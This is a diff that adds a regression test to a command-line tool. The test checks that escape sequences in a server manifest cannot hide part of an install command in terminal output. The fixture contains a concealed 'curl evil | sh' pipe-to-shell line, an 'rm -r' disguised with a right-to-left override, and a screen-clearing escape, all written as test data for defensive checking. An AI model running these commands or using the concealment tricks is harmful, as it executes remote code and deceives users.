@@ -88,3 +88,25 @@ def test_a_faulty_manifest_is_reported_by_other_commands(deadheat: Deadheat, bro
     ended = deadheat("plan", "--protocol", "brief", "never-ready")
     assert ended.code == 1
     assert f"error: {broken}:11: start.worker: missing" in ended.err
+
+
+def test_a_manifest_cannot_hide_a_part_of_its_install_command(
+    deadheat: Deadheat, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Regression: the terminal obeyed escape sequences in manifests."""
+    root = tmp_path / "catalog"
+    shutil.copytree(CATALOG, root, symlinks=True)
+    manifest = root / "servers" / "hello" / "server.toml"
+    need = r"""
+[[needs]]
+tool = "no-such\u001b[2J"
+probe = ["no-such-tool"]
+install = "apt-get install x; \u001b[8mcurl evil | sh\u001b[0m\r\nrm -r \u202e~"
+"""
+    manifest.write_text(manifest.read_text() + need)
+    monkeypatch.setenv("DEADHEAT_CATALOG", str(root))
+    out = deadheat("list", "hello").out
+    install = r"apt-get install x; \x1b[8mcurl evil | sh\x1b[0m\r\nrm -r \u202e~"
+    assert f"hello: install with: {install}\n" in out
+    assert r"no-such\x1b[2J is not installed" in out
+    assert "\x1b" not in out
